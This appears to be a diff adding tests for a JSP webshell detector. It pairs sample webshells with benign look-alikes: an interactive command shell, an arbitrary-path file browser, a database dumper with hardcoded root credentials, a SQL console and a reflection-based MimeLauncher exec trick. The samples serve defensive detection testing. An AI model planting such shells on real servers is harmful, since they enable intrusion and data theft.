@@ -1,0 +1,98 @@
+"""JSP shapes added from the tune split's misses: each with a sample written here and a benign
+look-alike that must stay below the threshold."""
+
+from agent.imagegate import webshell
+from agent.imagegate.webshell import THRESHOLD, jsp_lex
+from agent.imagegate.webshell.common import Budget, Limits
+
+
+def scan(text, name="x.jsp"):
+    return webshell.scan(name, text.encode())
+
+
+def shell(text, name="x.jsp"):
+    hits = scan(text, name)
+    assert hits and hits[0].confidence >= THRESHOLD, hits
+    assert hits[0].snippet and len(hits[0].snippet) <= 240
+    return hits[0]
+
+
+def benign(text, name="x.jsp"):
+    hits = scan(text, name)
+    assert not webshell.is_shell(hits), hits
+
+
+def test_a_parameter_is_not_the_constant_of_the_same_name_elsewhere():
+    toks = jsp_lex.lex('void a() { String sql = "select 1"; run(sql); } void b(String sql) { run(sql); }',
+                       Budget(Limits()), single_quote_string=False)
+    out = jsp_lex.fold(toks, Budget(Limits()))
+    assert ("i", "sql") in out[out.index(("i", "b")):]
+
+
+def test_sql_console_whose_query_parameter_shares_a_constant_name():
+    h = shell('<%!\nList test(String url) throws Exception {\nString sql = "SELECT 1 FROM DUAL";\n'
+              'return run(sql, url);\n}\nList run(String sql, String url) throws Exception {\n'
+              'Connection c = DriverManager.getConnection(url, "u", "p");\nStatement st = c.createStatement();\n'
+              'ResultSet rs = st.executeQuery(sql);\nreturn null;\n}\n%><%@ page import="java.sql.*"%>\n'
+              '<% run(request.getParameter("q"), request.getParameter("url")); %>')
+    assert h.rule == "jsp.sql-console"
+
+
+def test_interactive_shell_fed_through_a_thread():
+    h = shell('<%!\nclass T extends Thread {\nProcess p; BufferedWriter in;\npublic void run() {\ntry {\n'
+              'p = Runtime.getRuntime().exec("cmd");\nin = new BufferedWriter(new OutputStreamWriter('
+              'p.getOutputStream()));\n} catch (Exception e) {}\n}\npublic Writer getIn() { return in; }\n}\n%><%\n'
+              'T t = (T) session.getAttribute("t");\n'
+              'if (t == null) { t = new T(); t.start(); session.setAttribute("t", t); }\n'
+              'Writer w = t.getIn();\nw.write(request.getParameter("c"));\n%>')
+    assert h.rule == "jsp.interactive-shell"
+
+
+def test_fixed_status_command_is_not_an_interactive_shell():
+    benign('<%\nString f = request.getParameter("fmt");\nProcess p = Runtime.getRuntime().exec("/usr/bin/uptime");\n'
+           'out.print(f);\n%>')
+
+
+def test_browser_listing_and_reading_any_path():
+    h = shell('<%@ page import="java.io.*"%><%\nString p = request.getParameter("f");\nif (p == null) p = "/";\n'
+              'File f = new File(p);\nif (f.isDirectory()) { for (File x : f.listFiles()) out.print(x); }\n'
+              'else { FileInputStream in = new FileInputStream(f); int c; while ((c = in.read()) >= 0) out.write(c); }\n'
+              '%>')
+    assert h.rule == "jsp.file-manager"
+
+
+def test_listing_one_folder_is_not_a_browser():
+    benign('<%@ page import="java.io.*"%><%\nString album = request.getParameter("a");\n'
+           'File d = new File(application.getRealPath("/gallery"), album);\n'
+           'for (File x : d.listFiles()) out.print(x.getName());\n%>')
+
+
+def test_database_dumper_with_credentials_in_the_page():
+    h = shell('<%@ page import="java.sql.*,java.io.*,java.util.*"%><%\n'
+              'Connection c = DriverManager.getConnection("jdbc:mysql://db/app", "root", "pw");\n'
+              'ResultSet rs = c.getMetaData().getTables(null, null, "%", null);\nList<String> ts = new ArrayList<>();\n'
+              'while (rs.next()) ts.add(rs.getString(3));\nfor (String t : ts) {\n'
+              'Writer w = new OutputStreamWriter(new FileOutputStream("/tmp/" + t + ".txt"));\n'
+              'ResultSet r = c.createStatement().executeQuery("select * from " + t);\nwhile (r.next()) w.write(r.getString(1));\n'
+              'w.close();\n}\n%>')
+    assert h.rule == "jsp.db-dumper"
+
+
+def test_report_page_of_one_table_is_not_a_dumper():
+    benign('<%@ page import="java.sql.*"%><%\nConnection c = DriverManager.getConnection("jdbc:mysql://db/app", "u", "p");\n'
+           'ResultSet r = c.createStatement().executeQuery("select * from orders");\n'
+           'while (r.next()) out.print(r.getString(1));\n%>')
+
+
+def test_mime_launcher_exec_path_set_by_reflection():
+    h = shell('<%@ page import="java.lang.reflect.*"%><%\nClass k = Class.forName("sun.net.www.MimeLauncher");\n'
+              'Constructor c = k.getDeclaredConstructors()[0];\nc.setAccessible(true);\n'
+              'Thread t = (Thread) c.newInstance(null, null, null, "x", "");\n'
+              'Field f = k.getDeclaredField("execPath");\nf.setAccessible(true);\n'
+              'f.set(t, request.getParameter("c"));\nt.run();\n%>')
+    assert h.rule == "jsp.request-to-exec" and h.sink == "MimeLauncher.execPath"
+
+
+def test_field_set_elsewhere_is_plain_reflection():
+    benign('<%\njava.lang.reflect.Field f = bean.getClass().getDeclaredField("name");\n'
+           'f.set(bean, request.getParameter("name"));\n%>')
